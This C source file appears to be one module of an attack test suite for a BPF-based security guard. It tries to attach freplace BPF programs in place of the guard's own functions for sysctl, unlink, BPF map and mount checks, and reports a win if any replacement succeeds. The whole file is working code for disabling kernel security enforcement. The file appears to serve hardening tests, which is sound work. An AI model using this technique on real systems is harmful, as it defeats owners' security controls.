// SPDX-License-Identifier: GPL-2.0-only
/*
 * Programs of the guard's own can be opened by anybody. A program of type freplace that was loaded for one of the
 * attacker's is attached to one of these in its place: BPF_LINK_CREATE takes another target of the same type. A
 * generator: each function of each program that can be replaced.
 */
#include <bpf/bpf.h>
#include <bpf/libbpf.h>
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "attack.h"
#include "programs.h"

#define ROOM BPFFS "/latch/guard~"

static const struct {
	const char *replacement, *dummy, *of_dummy; /* programs of programs.bpf.c, and the function of the dummy */
	const char *function, *pin;		    /* of the guard's */
} functions[] = {
	{ "replace_sysctl", "sysctl_allow", "sysctl_allow", "guard_sysctl", ROOM "/sysctl" },
	{ "replace_denied", "calls_denied", "denied", "denied", ROOM "/links/inode_unlink" },
	{ "replace_denied", "calls_denied", "denied", "denied", ROOM "/links/bpf_map" },
	{ "replace_passes", "calls_passes", "passes", "passes", ROOM "/links/sb_mount" },
};

/* The program behind a pin, which may be that of a link. */
static int open_program(const char *pin)
{
	struct bpf_link_info info = { 0 };
	uint32_t len = sizeof(info);
	int fd = bpf_obj_get(pin), prog;

	if (fd < 0 || !strstr(pin, "/links/"))
		return fd < 0 ? -errno : fd;
	if (bpf_obj_get_info_by_fd(fd, &info, &len))
		return -errno;
	prog = bpf_prog_get_fd_by_id(info.prog_id);
	close(fd);
	return prog < 0 ? -errno : prog;
}

/* Loaded for the dummy's function of that name; a descriptor. */
int function_load(const char *replacement, const char *dummy, const char *function)
{
	struct bpf_program *target, *prog;
	struct bpf_object *obj = programs_open(dummy, &target), *its;

	if (!obj || bpf_object__load(obj))
		return -errno;
	its = programs_open(replacement, &prog);
	if (!its || bpf_program__set_attach_target(prog, bpf_program__fd(target), function) || bpf_object__load(its))
		return -errno;
	return bpf_program__fd(prog);
}

int function_replace(int prog, const char *function, const char *pin)
{
	int fd = open_program(pin), link;
	LIBBPF_OPTS(bpf_link_create_opts, opts);

	if (fd < 0)
		return fd;
	opts.target_btf_id = (uint32_t)program_function(fd, function);
	link = bpf_link_create(prog, fd, 0, &opts);
	close(fd);
	return link < 0 ? -errno : 0;
}

static int replace_functions(void)
{
	int result = 0;

	if (access(ROOM, F_OK))
		return attack_absent("what is not sealed has no guard");
	for (size_t i = 0; i < sizeof(functions) / sizeof(*functions); i++) {
		int prog = function_load(functions[i].replacement, functions[i].dummy, functions[i].of_dummy);
		int e = prog < 0 ? prog : function_replace(prog, functions[i].function, functions[i].pin);

		if (e)
			result = result ? result : e;
		else
			return ATTACK_WON;
	}
	return result;
}

const struct attack function_attacks[] = {
	{ "functions", "freplace of each function of the guard's programs, loaded for another program",
	  replace_functions, 0, NULL },
	{},
};
